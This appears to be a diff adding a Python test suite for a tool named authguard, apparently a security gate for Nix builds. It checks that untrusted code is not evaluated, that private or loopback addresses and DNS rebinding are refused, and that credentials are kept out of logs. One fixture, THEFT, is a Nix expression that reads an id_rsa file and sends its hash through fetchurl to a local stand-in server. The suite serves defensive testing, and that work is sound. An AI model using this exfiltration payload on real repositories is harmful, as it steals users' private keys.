@@ -1,0 +1,296 @@
+"""Nothing is built here, and no private address is asked, before the user allows it."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+import threading
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from authguard.prove.mirrors.failures import NotAllowed
+from authguard.prove.mirrors.policy import Policy
+from authguard.prove.mirrors.private import demand_public, is_private
+from authguard.prove.network import Network
+from tests.support.guarded import checked, digest
+from tests.support.repos import Repo
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+NO_LEAVE = {"GIT_CONFIG_COUNT": "0"}
+GATE = '[evidence]\nnetwork = "off"\n[[gate]]\nname = "g"\npaths = ["**"]\nfile = "default.nix"\n'
+THEFT = """
+let secret = builtins.readFile "{secret}"; in
+builtins.seq (builtins.fetchurl "{url}/leak?${{builtins.hashString "sha256" secret}}") (derivation {{
+  name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "echo > $out" ];
+  outputHash = "{hash}";
+  outputHashMode = "flat";
+  src = builtins.fetchurl {{ url = "{url}/source-1"; sha256 = "{hash}"; }};
+}})
+"""
+
+
+class Thief(HTTPServer):
+    """A server that remembers each request and may redirect."""
+
+    def __init__(self) -> None:
+        """Listen on loopback."""
+        self.asked: list[tuple[str, str | None]] = []
+        self.target = ""
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                outer.asked.append((self.path, self.headers.get("Authorization")))
+                self.send_response(302 if outer.target else 404)
+                if outer.target:
+                    self.send_header("Location", outer.target)
+                self.end_headers()
+
+            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
+                return
+
+        super().__init__(("127.0.0.1", 0), Handler)
+
+    @property
+    def url(self) -> str:
+        """Its address."""
+        return f"http://127.0.0.1:{self.server_port}"
+
+
+@pytest.fixture
+def thief() -> Iterator[Thief]:
+    """A server on loopback."""
+    made = Thief()
+    threading.Thread(target=made.serve_forever, daemon=True).start()
+    yield made
+    made.shutdown()
+    made.server_close()
+
+
+@pytest.fixture
+def stolen(tmp_path: Path, thief: Thief) -> Repo:
+    """A repository whose gate would read a secret and send it away."""
+    (tmp_path / "id_rsa").write_text("secret")
+    repo = Repo(tmp_path / "r")
+    theft = THEFT.format(secret=tmp_path / "id_rsa", url=thief.url, hash=digest(1))
+    repo.write("authguard.toml", GATE).write("default.nix", theft)
+    repo.commit("theft")
+    return repo
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("build",),
+        ("verify", "--all"),
+        ("verify", "-f", "default.nix", "default.nix"),
+        ("fix", "default.nix"),
+        ("check", "--gate"),
+    ],
+    ids=" ".join,
+)
+def test_nothing_is_built_here_without_leave(stolen: Repo, thief: Thief, words: tuple[str, ...]) -> None:
+    """Not even evaluated; a build says which command allows it."""
+    done = stolen.run("authguard", *words, env=NO_LEAVE)
+    assert thief.asked == []
+    assert done.returncode in (2, 3), done
+    assert "Traceback" not in done.stderr
+    if words[0] == "build":
+        assert done.returncode == 2
+        assert "git config --add authguard.builders local" in done.stderr
+
+
+PRIVATE = [
+    *("127.0.0.1", "127.0.0.53", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "0.0.0.1"),
+    *("100.64.0.1", "224.0.0.1", "240.0.0.1", "::1", "::", "fe80::1", "fe80::1%eth0", "fc00::1", "ff02::1"),
+    *("::ffff:127.0.0.1", "::ffff:10.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::"),
+]
+PUBLIC = ["140.82.121.3", "1.1.1.1", "2606:4700:4700::1111", "::ffff:1.1.1.1", "64:ff9b::101:101"]
+
+
+@pytest.mark.parametrize("address", PRIVATE)
+def test_a_private_address(address: str) -> None:
+    """Loopback, private, link-local, reserved, and IPv4 in IPv6."""
+    assert is_private(address)
+
+
+@pytest.mark.parametrize("address", PUBLIC)
+def test_a_public_address(address: str) -> None:
+    """The rest of the internet."""
+    assert not is_private(address)
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "127.0.0.1",
+        "localhost",
+        "LOCALHOST",
+        "127.1",
+        "2130706433",
+        "0x7f.1",
+        "0",
+        "[::1]",
+        "[::ffff:127.0.0.1]",
+    ],
+)
+def test_names_of_this_machine(host: str) -> None:
+    """However it is written, what the system makes of the name counts."""
+    with pytest.raises(NotAllowed, match=r"git config --add authguard\.hosts"):
+        demand_public(host, 80, ())
+    with pytest.raises(NotAllowed):
+        Policy("all", listed=()).demand(f"http://{host}:8080/x.git")
+
+
+@pytest.mark.parametrize("url", ["http://{}/x", "https://{}/x", "git://{}/x", "ssh://{}/x", "git@{}:x"])
+def test_every_scheme(url: str) -> None:
+    """A repository on loopback, by whatever protocol; one that the user lists is asked."""
+    with pytest.raises(NotAllowed):
+        Policy("all", listed=()).demand(url.format("127.0.0.1"))
+    assert Policy("all", listed=("127.0.0.1",)).demand(url.format("127.0.0.1"))
+
+
+def test_a_download(thief: Thief, tmp_path: Path) -> None:
+    """Refused by name, and by the address that a redirect leads to."""
+    from authguard.prove.hashes.download import download
+
+    with (tmp_path / "f").open("wb") as file:
+        with pytest.raises(NotAllowed):
+            download(f"{thief.url}/x", file, allowed=Network("all").demand)
+        assert thief.asked == []
+        thief.target = f"http://localhost:{thief.server_port}/y"
+        with pytest.raises(NotAllowed):
+            download(f"{thief.url}/x", file, allowed=Network("all", listed=("127.0.0.1",)).demand)
+    assert [path for path, _ in thief.asked] == ["/x"]
+
+
+def test_a_name_that_is_resolved_anew(thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Public when it is looked at, loopback when it is connected to: the first answer is the one that counts."""
+    import socket
+
+    from authguard.prove.hashes.download import download
+    from authguard.prove.mirrors.failures import Unanswered
+
+    real = socket.getaddrinfo
+    answers = iter(["192.0.2.1"])
+
+    def resolve(host: str, port: int, *more: Any, **named: Any) -> Any:  # noqa: ANN401 - those of socket
+        if host == "rebound.example":
+            named_now = next(answers, "127.0.0.1")
+            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (named_now, port))]
+        return real(host, port, *more, **named)
+
+    def connect(address: tuple[str, int], *more: object) -> socket.socket:
+        raise OSError(f"connects to {address[0]}")
+
+    monkeypatch.setattr("authguard.prove.mirrors.private.is_private", lambda address: address == "127.0.0.1")
+    monkeypatch.setattr(socket, "getaddrinfo", resolve)
+    monkeypatch.setattr(socket, "create_connection", connect)
+    with (tmp_path / "f").open("wb") as file, pytest.raises(Unanswered) as caught:
+        download(f"http://rebound.example:{thief.server_port}/x", file, allowed=Network("all").demand)
+    assert "127.0.0.1" not in str(caught.value)
+    assert thief.asked == []
+
+
+def source(url: str, version: int) -> str:
+    """A source at an address."""
+    return f'{{ fetchurl }}: fetchurl {{ url = "{url}/source-{version}"; hash = "{digest(1)}"; }}\n'
+
+
+@pytest.mark.parametrize(
+    "words", [("--online",), ("--all", "--head", "HEAD"), ("--base", "HEAD~1", "--head", "HEAD")]
+)
+def test_a_change_that_widens_the_network(tmp_path: Path, thief: Thief, words: tuple[str, ...]) -> None:
+    """`network = "all"`, and a mirror of the change's own."""
+    repo = Repo(tmp_path / "r")
+    repo.write("tool.nix", source(thief.url, 1)).commit("one")
+    wide = f'[mirrors]\nallow = ["127.0.0.1:{thief.server_port}"]\n[evidence]\nnetwork = "all"\n'
+    repo.write("authguard.toml", wide).write("tool.nix", source(thief.url, 2)).commit("two")
+    checked(repo, "check", *words, env=NO_LEAVE)
+    assert thief.asked == []
+
+
+def test_verify_asks_no_private_address(tmp_path: Path, thief: Thief) -> None:
+    """It says how to allow it, and prints no hash of what is there."""
+    repo = Repo(tmp_path / "r")
+    repo.write("tool.nix", source(thief.url, 1)).commit("one")
+    done = repo.run(
+        "authguard", "verify", "tool.nix", env={**NO_LEAVE, "XDG_CACHE_HOME": str(tmp_path / "c")}
+    )
+    assert done.returncode == 3
+    assert thief.asked == []
+    assert "authguard.hosts" in done.stdout + done.stderr
+
+
+SECRET = "s3cr3t"  # noqa: S105 - made up
+CREDENTIALS = f"http://user:{SECRET}@"
+
+
+def test_credentials_are_in_no_argument_list_and_no_cache(tmp_path: Path, thief: Thief) -> None:
+    """They are sent to their host alone; no process shows them, no file keeps them, no message prints them."""
+    tools = tmp_path / "tools"
+    tools.mkdir()
+    log = tmp_path / "argv"
+    git = subprocess.run(
+        ["sh", "-c", "command -v git"], capture_output=True, text=True, check=True
+    ).stdout.strip()
+    (tools / "git").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {log}\nexec {git} "$@"\n')
+    (tools / "git").chmod(0o755)
+    repo = Repo(tmp_path / "r")
+    url = thief.url.replace("http://", CREDENTIALS)
+    text = '{{ fetchgit }}: fetchgit {{ url = "{0}/a.git"; rev = "v{1}"; hash = "{2}"; }}\n'
+    repo.write("tool.nix", text.format(url, 1, digest(1))).commit("one")
+    repo.write("tool.nix", text.format(url, 2, digest(1))).stage()
+    env = repo.environment(PATH=f"{tools}:{os.environ['PATH']}", XDG_CACHE_HOME=str(tmp_path / "cache"))
+    env["GIT_ALLOW_PROTOCOL"] = "http:https"
+    said = b""
+    for words in (["check", "--online"], ["check", "--format", "json"], ["verify", "tool.nix"], ["list"]):
+        done = subprocess.run(
+            [sys.executable, "-m", "authguard", *words],
+            cwd=repo.path,
+            env=env,
+            capture_output=True,
+            check=False,
+        )
+        if words[0] != "list":
+            said += done.stdout + done.stderr
+    assert any(path.startswith("/a.git") for path, _ in thief.asked)
+    assert SECRET not in log.read_text()
+    assert SECRET.encode() not in said
+    for folder in (tmp_path / "cache", repo.path / ".git" / "authguard"):
+        for file in folder.rglob("*"):
+            if file.is_file() and SECRET.encode() in file.read_bytes():
+                assert not file.stat().st_mode & 0o077 or not folder.stat().st_mode & 0o077, file
+    assert all(header is None or re.match("Basic ", header) for _, header in thief.asked)
+
+
+def test_leave_is_given_by_one_command(tmp_path: Path) -> None:
+    """`allow` lists what the config asks for, and allows it."""
+    repo = Repo(tmp_path / "r")
+    more = '[[gate]]\nname = "h"\npaths = ["**"]\nfile = "default.nix"\nbuilder = "fish"\n'
+    config = GATE.replace('"off"', '"mirrors"') + more
+    repo.write("authguard.toml", config).write("default.nix", "1").commit("one")
+    listed = repo.run("authguard", "allow", env=NO_LEAVE).stdout.splitlines()
+    assert [line.split()[:3] for line in listed] == [
+        ["not", "allowed", "local"],
+        ["not", "allowed", "fish"],
+        ["not", "allowed", "network:mirrors"],
+    ]
+    for name in ("local", "fish", "network:mirrors", "host:forge.local"):
+        assert repo.run("authguard", "allow", name, env=NO_LEAVE).returncode == 0
+    listed = repo.run("authguard", "allow", env=NO_LEAVE).stdout.splitlines()
+    assert [line.split()[:2] for line in listed] == [
+        ["allowed", "local"],
+        ["allowed", "fish"],
+        ["allowed", "network:mirrors"],
+        ["allowed", "host:forge.local"],
+    ]
+    for name in ("-x", "a b", "network:more", "host:", "ssh://x/?y"):
+        assert repo.run("authguard", "allow", "--", name, env=NO_LEAVE).returncode == 2
